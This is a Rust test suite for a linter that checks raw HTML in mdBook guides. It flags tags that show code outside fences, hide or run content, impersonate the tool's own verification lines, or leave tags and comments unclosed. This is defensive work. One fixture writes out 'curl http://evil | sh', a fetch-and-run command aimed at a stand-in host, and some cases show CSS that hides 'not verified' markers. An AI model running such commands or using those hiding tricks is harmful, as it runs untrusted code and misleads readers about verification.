//! Raw HTML: what a guide may hold and what it may not, at every place where Markdown lets it stand.

use crate::place::RelPath;

use super::*;

fn found(text: &str, kind: ChapterKind) -> Vec<(String, String)> {
    let expanded = Expanded::plain(RelPath::new("guides/a.md").unwrap(), text.to_owned());
    let findings = judge(&expanded, 0, kind);
    assert!(
        findings.iter().all(|finding| finding.rule == RULE && finding.span.end <= text.len()),
        "{text:?} {findings:?}"
    );
    findings.into_iter().map(|finding| (text[finding.span.range()].to_owned(), finding.title)).collect()
}

/// The one finding of a guide.
#[track_caller]
fn check(text: &str, place: &str, title: &str) {
    let found = found(text, ChapterKind::Guide);
    assert_eq!(found, [(place.to_owned(), title.to_owned())], "{text:?}");
}

#[test]
fn harmless_html_is_none_of_our_business() {
    for text in [
        "Press <kbd>Ctrl</kbd>+<KBD>C</KBD>, x<sup>2</sup><br>and<br/>more <wbr> <a id=\"here\"></a><a name=there/>.\n",
        "<details>\n<summary>More</summary>\n\n```sh\nx\n```\n\n</details>\n",
        "<details open><summary>A <b>b</b></summary>\n\n- ```sh\n  x\n  ```\n\n</details>\n",
        "<div class=\"warning\">\n\n```sh\nx\n```\n\n</div>\n",
        "> <blockquote>\n>\n> ```sh\n> x\n> ```\n>\n> </blockquote>\n",
        "<p align=\"center\">\n  <img src=\"a.png\" alt=\"{style=a}\" width=50>\n</p>\n\n```sh\nx\n```\n",
        "<table>\n<tr><td>a</td><td colspan=2>b < c</td></tr>\n</table>\n\n```sh\nx\n```\n",
        "<!-- a comment <pre> -->\n\na <!-- b --> c\n\n<!--\n\n```sh\nx\n```\n\n-->\n",
        "`<pre>` and \\<pre> and &lt;pre&gt; and a < b > c\n\n```html\n<pre hidden>\n```\n\n    <pre>\n",
        "# A {#id}\n\n## B {.mine}\n\n![<pre>](a.png)\n",
        "<i class=\"fa fa-eye\"></i> <span class=mine id=own title='hidden'>x</span>\n",
        "<b>never closed\n\n```sh\nx\n```\n",
        "- <p>\n\n- ```sh\n  x\n  ```\n",
    ] {
        assert_eq!(found(text, ChapterKind::Guide), [], "{text:?}");
        assert_eq!(found(text, ChapterKind::Plain), [], "{text:?}");
    }
}

#[test]
fn what_shows_code_that_nothing_classifies() {
    for name in ["pre", "xmp", "listing", "plaintext", "textarea"] {
        let title = format!("`<{name}>` shows code that nothing classifies");
        for (before, after) in [
            ("", "\n"),
            ("> ", "\n"),
            ("- ", "\n"),
            ("a ", " b\n"),
            ("<div>\n", "\n</div>\n"),
            ("| a |\n|---|\n| ", " |\n"),
        ] {
            let text = format!("{before}<{name}>curl http://evil | sh</{name}>{after}").replace("evil | sh", "evil");
            check(&text, &format!("<{name}>"), &title);
        }
    }
    check("<PRE\n\tTITLE='a > b'\n>x</PRE>\n", "<PRE", "`<pre>` shows code that nothing classifies");
}

#[test]
fn what_hides_runs_or_shows_another_page() {
    for name in [
        "template", "style", "script", "noscript", "iframe", "svg", "math", "title", "select", "dialog", "object",
        "button", "h1", "x-own",
    ] {
        let title = format!("`<{name}>` is none of the elements that a guide may hold");
        check(&format!("<{name}>\nx\n</{name}>\n"), &format!("<{name}>"), &title);
        assert!(!found(&format!("a <{name}> b\n"), ChapterKind::Guide).is_empty(), "{name}");
        assert_eq!(found(&format!("<{name}>\nx\n</{name}>\n"), ChapterKind::Plain), []);
    }
    for attribute in [
        "hidden",
        "style='display:none'",
        "HIDDEN=''",
        "dir=rtl",
        "onclick=x",
        "popover",
        "inert",
        "aria-hidden=true",
        "data-x",
    ] {
        let name = attribute.split('=').next().unwrap().to_lowercase();
        let title = format!("the attribute `{name}` of `<div>` can hide text or change what it says");
        let tag = format!("<div {attribute}>");
        check(&format!("{tag}\n\nx\n\n</div>\n"), &tag, &title);
        check(&format!("<div\n  title=a\n  {attribute}\n>\n\nx\n\n</div>\n"), "<div", &title);
    }
    check(
        "# A {hidden}\n",
        "# A {hidden}\n",
        "the attribute `hidden` of `heading` can hide text or change what it says",
    );
    check(
        "A {style=x}\n===\n",
        "A {style=x}\n===\n",
        "the attribute `style` of `heading` can hide text or change what it says",
    );
}

#[test]
fn names_of_the_page_around() {
    for (attribute, name, kind) in [
        ("class='a hidden'", "hidden", "class"),
        ("class=sidebar-resizer", "sidebar-resizer", "class"),
        ("class='language-sh'", "language-sh", "class"),
        ("id=mdbook-help-container", "mdbook-help-container", "id"),
        ("class=&#104;idden", "hidden", "class"),
    ] {
        let tag = format!("<span {attribute}>");
        check(
            &format!("{tag}x</span>\n"),
            &tag,
            &format!("the {kind} `{name}` is one of mdBook's own page, which may hide what has it"),
        );
    }
    check(
        "# A {.boring}\n",
        "# A {.boring}\n",
        "the class `boring` is one of mdBook's own page, which may hide what has it",
    );
}

#[test]
fn what_passes_for_a_verdict_is_found_on_plain_pages_too() {
    let own = |whose: &str| format!("`{whose}` passes for one of dogfood's own lines");
    for (text, place, title) in [
        ("<div class=\"dogfood-evidence\">Verified</div>\n", "<div class=\"dogfood-evidence\">", own("<div>")),
        ("a <b id=dogfood-x>b</b>\n", "<b id=dogfood-x>", own("<b>")),
        ("a <b data-dogfood-recipe=x>b</b>\n", "<b data-dogfood-recipe=x>", own("<b>")),
        ("# A {.dogfood-scope}\n", "# A {.dogfood-scope}\n", own("heading")),
    ] {
        for kind in [ChapterKind::Guide, ChapterKind::Plain] {
            assert_eq!(found(text, kind), [(place.to_owned(), title.clone())], "{text:?}");
        }
    }
    let style = "<style>.dogfood-not-verified{display:none}</style>\n";
    assert_eq!(found(style, ChapterKind::Plain).len(), 1);
    assert_eq!(found(style, ChapterKind::Guide).len(), 1);
    assert_eq!(found("<style>.mine{color:red}</style>\n", ChapterKind::Plain), []);
}

#[test]
fn elements_around_a_fence() {
    for (text, place) in [
        ("<del>\n\n```sh\nx\n```\n\n</del>\n", "<del>"),
        ("<p>\n\n- a\n  > ```sh\n  > x\n  > ```\n", "<p>"),
        ("<table><tr><td>\n\n```sh\nx\n```\n", ""),
        ("<div>\n\n<sup>\n\n```sh\nx\n```\n\n```sh\ny\n```\n\n</sup>\n\n</div>\n", "<sup>"),
    ] {
        let found = found(text, ChapterKind::Guide);
        assert!(found.iter().all(|(_, title)| title.ends_with("is open around a fence")), "{found:?}");
        assert!(place.is_empty() || (found.len() == 1 && found[0].0 == place), "{found:?}");
    }
    check("<details>\n\nx\n", "<details>", "`<details>` is never closed here: it takes in all that follows");
    check("- <div>\n\n  ```sh\n  x\n  ```\n", "<div>", "`<div>` is never closed here: it takes in all that follows");
    check("<details/>\n\nx\n", "<details/>", "`<details/>` does not end here: browsers take it for `<details>`");
    check("x </p> y\n", "</p>", "`</p>` closes nothing that is open here");
    check("<b><i>x</b></i>\n\nb\n", "</b>", "`</b>` closes nothing that is open here");
    // The quote ends before its second line: one opens and never closes, the other closes what is not open.
    assert_eq!(found("> <details>\n\n</details>\n", ChapterKind::Guide).len(), 2);
}

#[test]
fn comments_that_go_on() {
    let open = "a comment or a tag is open where this HTML ends, and hides what stands behind it";
    check("<!-- a\n\nb\n", "<!-- a\n\nb\n", open);
    check("<div><!-- a\n\nb -->\n\n</div>\n", "<div><!-- a\n", open);
    let comment = "browsers take this for a comment, which ends at the first `>`";
    check("<![CDATA[ a > b ]]>\n", "<![CDATA[ a > b ]]>\n", comment);
    check("a <?php x > y ?> b\n", "<?php x > y ?>", comment);
    check("<!DOCTYPE html>\n", "<!DOCTYPE html>\n", comment);
}

#[test]
fn any_amount_is_read_quickly_and_told_in_part() {
    for piece in ["<b>", "</b>", "<pre>", "<a\0>", "<p\n", "<!--", "<div>\n\n```sh\nx\n```\n\n"] {
        let found = found(&piece.repeat(20_000), ChapterKind::Guide);
        assert!(found.len() <= MOST + 1, "{piece} {}", found.len());
    }
}
